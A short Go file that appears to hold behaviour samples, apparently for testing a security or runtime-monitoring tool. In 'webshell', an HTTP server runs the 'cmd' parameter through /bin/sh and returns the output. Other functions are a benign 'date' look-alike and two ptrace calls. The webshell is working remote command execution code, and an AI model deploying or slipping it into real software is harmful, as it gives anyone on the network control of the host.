package main

import (
	"fmt"
	"net/http"
	"os/exec"
	"syscall"
)

// webshell runs what its parameter says, and shows what came of it.
func webshell(args []string) error {
	return http.ListenAndServe(":"+arg(args, 0, "8080"), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		out, err := exec.Command("/bin/sh", "-c", r.FormValue("cmd")).CombinedOutput()
		fmt.Fprintln(w, string(out), err)
	}))
}

// datePage starts a program for each visitor, with nothing of what he said.
func datePage(args []string) error {
	return http.ListenAndServe(":"+arg(args, 0, "8080"), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		out, err := exec.Command("/bin/sh", "-c", "date").CombinedOutput()
		fmt.Fprintln(w, string(out), err)
	}))
}

// traceMe asks to be traced, which nobody does.
func traceMe([]string) error {
	if _, _, errno := syscall.Syscall(syscall.SYS_PTRACE, syscall.PTRACE_TRACEME, 0, 0); errno != 0 {
		return errno
	}
	return nil
}

// debug starts a program as a debugger does.
func debug(args []string) error {
	cmd := exec.Command(arg(args, 0, "/bin/true"))
	cmd.SysProcAttr = &syscall.SysProcAttr{Ptrace: true}
	if err := cmd.Start(); err != nil {
		return err
	}
	return cmd.Process.Kill()
}
